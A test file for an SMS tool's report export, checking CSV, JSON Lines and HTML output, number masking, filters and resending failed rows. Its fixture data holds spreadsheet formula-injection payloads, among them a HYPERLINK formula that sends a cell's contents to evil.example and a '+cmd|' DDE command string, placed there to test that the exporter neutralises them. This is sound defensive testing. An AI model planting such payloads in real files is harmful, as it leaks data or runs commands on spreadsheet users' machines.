/**
 * `smsrun export` through the real CLI, on every available ledger, after a campaign sent to the simulator:
 * the user's own columns beside smsrun's, formula-injection cells neutralised in every column the user
 * controls, Unicode kept, --only / --columns / --text, --mask in every format, and the round trip: the rows
 * that failed, exported and loaded as a new campaign's CSV, are sent again (and nothing else) with the
 * same texts.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { startSimulator, type Simulator } from '../src/sim/index.js';
import { openLedger } from '../src/ledger/open.js';
import { finalizeLoad, insertCampaign, insertRecipients } from '../src/ledger/load.js';
import { killLeftovers, runCli, simEnv } from './helpers/cli.js';
import { createTestLedger, LEDGER_KINDS, type TestLedger } from './helpers/ledgers.js';
import { writeJob } from './helpers/csv.js';
import { tempDir } from './helpers/tmp.js';

const SRC = '14155550100';
const STACK_LINE = /\n\s+at /;
/** What a spreadsheet would run as a formula: a cell starting with one of these (csv-stringify's list). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

// The user's CSV: a `status` column of their own (smsrun's becomes smsrun_status), formula-looking values in
// every column they control, Unicode names, and every outcome the simulator can give.
const HEADER = 'phone,name,status,note,discount';
const ROWS = [
  ['+1 415 555 0101', 'Zoë 🎉', 'vip', '=HYPERLINK("http://evil.example/?d="&A1,"click")', '-20%'], // delivered
  ['+14155550197', '@mention', '=1+1', "+cmd|' /C calc'!A0", '-5%'], // undelivered (80)
  ['14155550298', '\uFF1D1+1', 'new', '-2+3', '+10%'], // failed (90)
  ['=HYPERLINK("http://evil.example","x")', 'Bad', 'x', 'y', '1%'], // invalid: letters
  ['14155550101', 'Again', 'x', 'y', '2%'], // duplicate of row 1
  ['+14155550999', 'Nobody', 'x', 'y', '3%'], // a valid US number the simulator is told is unallocated: refused by Plivo (HTTP 400: alone in its request), failed
  ['14155550102', 'Ünal', '', 'plain', '4%'], // delivered
  ['14155550103', 'Đorđe', '', 'plain', '5%'], // delivered
];
const TEXT = 'Hi {{name}}, {{discount}} off today';
const rendered = (row: string[]) => `Hi ${row[1]}, ${row[4]} off today`;
/** Every destination number of the CSV, as digits: none may show in a masked report. */
const NUMBERS = ['14155550101', '14155550197', '14155550298', '14155550999', '14155550102', '14155550103'];

function csvLine(fields: string[]): string {
  return fields.map((f) => `"${f.replace(/"/g, '""')}"`).join(',');
}

function jsonl(text: string): Record<string, unknown>[] {
  return text.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
}

describe.each(LEDGER_KINDS)('export on the %s ledger', (kind) => {
  let ledger: TestLedger;
  let sim: Simulator;
  let env: Record<string, string>;
  const name = `report-${kind}`;
  const cli = (...args: string[]) => runCli(args, env);

  beforeAll(async () => {
    ledger = await createTestLedger(kind);
    sim = await startSimulator({ mps: 1000, deliveryDelayMs: [5, 30], seed: 3, unallocated: ['14155550999'] });
    env = { ...ledger.env, ...simEnv(sim) };
    const job = await writeJob({ name, src: SRC, text: TEXT, rate: 200, batch_size: 10 }, [HEADER, ...ROWS.map(csvLine)].join('\n') + '\n');
    const run = await cli('run', job, '--track-for', '20', '--settle', '0');
    expect(run.stderr).not.toMatch(STACK_LINE);
    expect(run.code, run.stderr).toBe(0);
  });
  afterAll(async () => {
    killLeftovers();
    await sim?.close();
    await ledger?.dispose();
  });

  it('CSV: smsrun columns, then the user columns under their own names; no cell a spreadsheet would run', async () => {
    const r = await cli('export', name);
    expect(r.code, r.stderr).toBe(0);
    const header = r.stdout.split('\n')[0];
    expect(header).toBe('row,line,dst,src,smsrun_status,message_uuid,error_code,error_meaning,units,total_amount,submitted_at,final_at,reason,' + HEADER);
    const cells = parse(r.stdout, { relax_column_count: false }) as string[][];
    for (const row of cells) for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);

    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((x) => x['smsrun_status'])).toEqual(['delivered', 'undelivered', 'failed', 'invalid', 'duplicate', 'failed', 'delivered', 'delivered']);
    // smsrun's dst is the number as sent: digits, no '+', so it stays a number in a spreadsheet.
    expect(rows.map((x) => x['dst'])).toEqual(['14155550101', '14155550197', '14155550298', `'=HYPERLINK("http://evil.example","x")`, '14155550101', '14155550999', '14155550102', '14155550103']);
    // The user's cells as written, with a leading ' where they would run as a formula.
    expect(rows[0]).toMatchObject({ phone: "'+1 415 555 0101", name: 'Zoë 🎉', status: 'vip', note: `'=HYPERLINK("http://evil.example/?d="&A1,"click")`, discount: "'-20%" });
    expect(rows[1]).toMatchObject({ phone: "'+14155550197", name: "'@mention", status: "'=1+1", note: "'+cmd|' /C calc'!A0", discount: "'-5%" });
    expect(rows[2]).toMatchObject({ phone: '14155550298', name: "'\uFF1D1+1", note: "'-2+3", discount: "'+10%" });
    expect(rows[3]!['phone']).toBe(`'=HYPERLINK("http://evil.example","x")`);
    expect(rows[3]!['reason']).toMatch(/^line 5: column 'phone': '=HYPERLINK/);
    expect(rows[1]).toMatchObject({ error_code: '80', error_meaning: expect.stringMatching(/temporarily unavailable|out of coverage/) });
    expect(rows[2]).toMatchObject({ error_code: '90', error_meaning: 'Plivo has no carrier route to this destination' });
    expect(rows[0]).toMatchObject({ error_code: '000', error_meaning: expect.stringMatching(/no error/) });
    expect(rows[4]!['reason']).toBe('same number as row 1: sent once');
    expect(rows[5]).toMatchObject({ message_uuid: '', reason: "Plivo refused the request (HTTP 400): '14155550999' is not a valid phone number." });
    expect(header).not.toContain(',text'); // the text only when asked
  });

  it('JSON Lines: one object per line, the same columns, values as they are (no spreadsheet escaping)', async () => {
    const r = await cli('export', name, '--format', 'jsonl', '--text');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.endsWith('\n')).toBe(true);
    const lines = jsonl(r.stdout);
    expect(lines).toHaveLength(ROWS.length);
    expect(Object.keys(lines[0]!)).toEqual(['row', 'line', 'dst', 'src', 'smsrun_status', 'message_uuid', 'error_code', 'error_meaning', 'units',
      'total_amount', 'submitted_at', 'final_at', 'reason', 'text', 'phone', 'name', 'status', 'note', 'discount']);
    ROWS.forEach((fields, i) => {
      expect(lines[i]).toMatchObject({ row: i + 1, line: i + 2, phone: fields[0], name: fields[1], status: fields[2], note: fields[3], discount: fields[4] });
    });
    expect(lines[0]!['text']).toBe('Hi Zoë 🎉, -20% off today');
    expect(lines[6]!['text']).toBe(rendered(ROWS[6]!));
    expect(lines[3]!['text']).toBeNull(); // invalid: nothing rendered
    const sent = new Map(sim.messages().map((m) => [m.to, m.text]));
    for (const l of lines.filter((x) => x['message_uuid'])) expect(l['text']).toBe(sent.get(l['dst'] as string));
  });

  it('--only and --columns pick rows and columns; a typo is refused with a suggestion', async () => {
    const r = await cli('export', name, '--only', 'failed,undelivered', '--columns', 'row,name,smsrun_status,error_code');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('row,name,smsrun_status,error_code\n2,\'@mention,undelivered,80\n3,\'\uFF1D1+1,failed,90\n6,Nobody,failed,\n');
    const typo = await cli('export', name, '--only', 'faild');
    expect(typo.code).toBe(2);
    expect(typo.stderr).toContain("'faild' is not a report status (did you mean 'failed'?)");
    const column = await cli('export', name, '--columns', 'row,nmae');
    expect(column.code).toBe(2);
    expect(column.stderr).toContain("no column 'nmae' (did you mean 'name'?)");
    for (const x of [typo, column]) expect(x.stderr).not.toMatch(STACK_LINE);
  });

  it('--mask hides every destination number in CSV, JSON Lines and HTML, in smsrun\'s dst, the user\'s column and the reasons', async () => {
    const outputs = [];
    for (const format of ['csv', 'jsonl', 'html']) outputs.push(await cli('export', name, '--mask', '--format', format)); // one at a time: the embedded ledger is single-process
    for (const o of outputs) {
      expect(o.code, o.stderr).toBe(0);
      for (const n of NUMBERS) expect(o.stdout, `${n} in a masked report`).not.toContain(n);
      expect(o.stdout).not.toContain('415 555 0101');
      expect(o.stdout).not.toMatch(/evil\.example(&quot;|"+),/); // the invalid row's value, in dst and in its reason
    }
    const csv = parse(outputs[0]!.stdout, { columns: true }) as Record<string, string>[];
    expect(csv[0]).toMatchObject({ dst: '141XXXXX101', phone: "'+1 41X XXX X101", src: SRC });
    expect(csv[1]).toMatchObject({ dst: '141XXXXX197', phone: "'+141XXXXX197" });
    const lines = jsonl(outputs[1]!.stdout);
    expect(lines[2]).toMatchObject({ dst: '141XXXXX298', phone: '141XXXXX298' });
    expect(lines[5]).toMatchObject({ dst: '141XXXXX999', smsrun_status: 'failed', reason: "Plivo refused the request (HTTP 400): '141XXXXX999' is not a valid phone number." });
    expect(outputs[2]!.stdout).toContain('141XXXXX999');
  });

  it('HTML: one page that fetches nothing, with the summary and the rows that need attention', async () => {
    const dir = await tempDir();
    const file = path.join(dir, 'report.html');
    const r = await cli('export', name, '--out', file); // the format from the extension
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`wrote the report to ${file}`);
    const html = await readFile(file, 'utf8');
    expect(html).toMatch(/^<!DOCTYPE html>/);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:"`);
    expect(html).not.toMatch(/<script|\ssrc=|\shref=|@import|url\(/i);
    expect(html).toContain('data-metric="delivered" data-value="3"');
    expect(html).toContain('data-metric="rows" data-value="8"');
    expect(html).toMatch(/<div class="group" data-status="failed">\n<h3>.*Refused by Plivo: 1<\/h3>/);
    expect(html).toMatch(/<div class="group" data-status="invalid">/);
    // The user's text is escaped, never markup.
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example&quot;,&quot;x&quot;)');
    const refused = await cli('export', name, '--format', 'html', '--only', 'failed');
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('the html report always shows the whole campaign');
  });

  it('round trip: the failed and undelivered rows, exported and loaded as a new campaign, are sent again and nothing else, with the same texts', async () => {
    const dir = await tempDir();
    const retry = path.join(dir, 'retry.csv');
    const exported = await cli('export', name, '--only', 'failed,undelivered', '--out', retry);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stderr).toContain(`wrote 3 rows to ${retry}`);
    const job = path.join(dir, 'retry.json');
    await writeFile(job, JSON.stringify({ name: `${name}-retry`, recipients: 'retry.csv', src: SRC, text: TEXT, rate: 200 }));
    const before = sim.messages().length;
    const run = await cli('run', job, '--track-for', '20', '--settle', '0');
    expect(run.stderr).not.toMatch(STACK_LINE);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toContain(`loaded 3 rows from ${retry}`);
    const again = sim.messages().slice(before);
    expect(again.map((m) => [m.to, m.text]).sort()).toEqual([
      ['14155550197', rendered(ROWS[1]!)],
      ['14155550298', rendered(ROWS[2]!)],
    ]);
    // The new campaign's report carries the first one's columns, and its user columns read back unchanged.
    const second = jsonl((await cli('export', `${name}-retry`, '--format', 'jsonl')).stdout);
    expect(second.map((x) => [x['phone'], x['name'], x['discount'], x['smsrun_status']])).toEqual([
      ['+14155550197', '@mention', '-5%', 'undelivered'],
      ['14155550298', '\uFF1D1+1', '+10%', 'failed'],
      ['+14155550999', 'Nobody', '3%', 'failed'], // refused again: Plivo accepts nothing for it
    ]);
  });

  it('a campaign loaded before the ledger kept CSV columns exports smsrun\'s columns, and says why a user column is missing', async () => {
    const db = await openLedger({ databaseUrl: ledger.databaseUrl, home: ledger.home });
    try {
      await db.transaction(async (tx) => {
        // What an earlier smsrun's load wrote: no header, no fields.
        const id = await insertCampaign(tx, { name: `${name}-old`, job: { name: `${name}-old`, dst_column: 'phone' }, jobFile: 'job.json', csvFile: 'r.csv', csvSha256: '-', contentHash: '-', senders: [SRC] });
        await insertRecipients(tx, id, [{ rowNo: 1, lineNo: 2, rawDst: '+14155550301', dst: '14155550301', text: 'hi', units: 1, status: 'pending', reason: null, country: null, numberType: null }]);
        await finalizeLoad(tx, id, [SRC], 10);
      });
    } finally {
      await db.close();
    }
    const csv = await cli('export', `${name}-old`);
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toBe('row,line,dst,src,status,message_uuid,error_code,error_meaning,units,total_amount,submitted_at,final_at,reason\n' +
      `1,2,14155550301,${SRC},pending,,,,1,,,,not sent yet\n`);
    const html = await cli('export', `${name}-old`, '--format', 'html');
    expect(html.code, html.stderr).toBe(0);
    const missing = await cli('export', `${name}-old`, '--columns', 'row,phone');
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain("loaded before smsrun kept the CSV's own columns");
  });
});
